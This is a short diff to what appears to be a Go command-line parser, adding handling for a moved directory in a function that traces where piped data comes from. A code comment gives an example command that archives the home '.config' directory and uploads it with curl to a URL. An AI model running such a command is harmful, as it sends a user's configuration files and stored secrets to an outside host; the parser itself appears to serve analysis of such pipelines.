@@ -1636,6 +1636,9 @@ func pipeOrigin(c *cmdline.Command, line *cmdline.Line) (string, []string) {
 	if f == nil {
 		return "", nil
 	}
+	if dir := movedDir(f.Moved); dir != "" {
+		return f.Name, movedView(dir, f) // cd ~ && tar cz .config | curl -T - URL: ~/.config
+	}
 	return f.Name, wordValues(f.Args)
 }
 
